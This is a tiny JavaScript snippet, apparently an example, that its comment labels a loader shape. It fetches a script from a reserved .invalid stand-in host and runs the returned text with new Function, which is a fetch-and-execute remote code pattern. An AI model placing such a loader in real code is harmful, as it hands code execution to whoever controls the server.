// Loader shape: runs whatever the (reserved .invalid) server returns.
const res = await fetch('https://cfg.example.invalid/bootstrap.js').catch(() => null);
if (res) new Function(await res.text())();
